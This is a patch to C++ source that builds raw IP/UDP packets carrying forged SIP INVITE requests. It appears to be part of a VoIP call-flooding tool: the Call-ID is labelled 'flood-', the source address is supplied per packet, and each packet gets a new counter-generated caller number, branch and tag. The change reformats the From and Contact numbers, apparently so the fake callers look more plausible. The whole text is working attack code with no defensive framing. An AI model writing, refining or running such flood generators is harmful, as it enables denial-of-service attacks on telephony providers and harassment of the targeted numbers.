@@ -141,18 +141,19 @@ std::size_t build(std::uint8_t* out, const Options& o, std::uint32_t src, std::u
         "INVITE sip:+4420%07llu@%s:%u SIP/2.0\r\n"
         "Via: SIP/2.0/UDP %s:%u;branch=z9hG4bKf%llx;rport\r\n"
         "Max-Forwards: 70\r\n"
-        "From: <sip:%llu@%s>;tag=f%llx\r\n"
+        "From: <sip:9%08llu@%s>;tag=f%llx\r\n"
         "To: <sip:+4420%07llu@%s>\r\n"
         "Call-ID: flood-%llx@%s\r\n"
         "CSeq: 1 INVITE\r\n"
-        "Contact: <sip:%llu@%s:%u>\r\n"
+        "Contact: <sip:9%08llu@%s:%u>\r\n"
         "Content-Type: application/sdp\r\n"
         "Content-Length: %zu\r\n\r\n%.*s",
         static_cast<unsigned long long>(n % 10000000), d.c_str(), o.target_port, s.c_str(), sport,
-        static_cast<unsigned long long>(n), static_cast<unsigned long long>(100000 + n), s.c_str(),
-        static_cast<unsigned long long>(n), static_cast<unsigned long long>(n % 10000000),
-        d.c_str(), static_cast<unsigned long long>(n), s.c_str(),
-        static_cast<unsigned long long>(100000 + n), s.c_str(), sport, kBody.size(),
+        static_cast<unsigned long long>(n), static_cast<unsigned long long>(n % 100000000),
+        s.c_str(), static_cast<unsigned long long>(n),
+        static_cast<unsigned long long>(n % 10000000), d.c_str(),
+        static_cast<unsigned long long>(n), s.c_str(),
+        static_cast<unsigned long long>(n % 100000000), s.c_str(), sport, kBody.size(),
         static_cast<int>(kBody.size()), kBody.data());
     const std::size_t payload = static_cast<std::size_t>(std::max(len, 0));
     const std::size_t total = kIpHeader + kUdpHeader + payload;
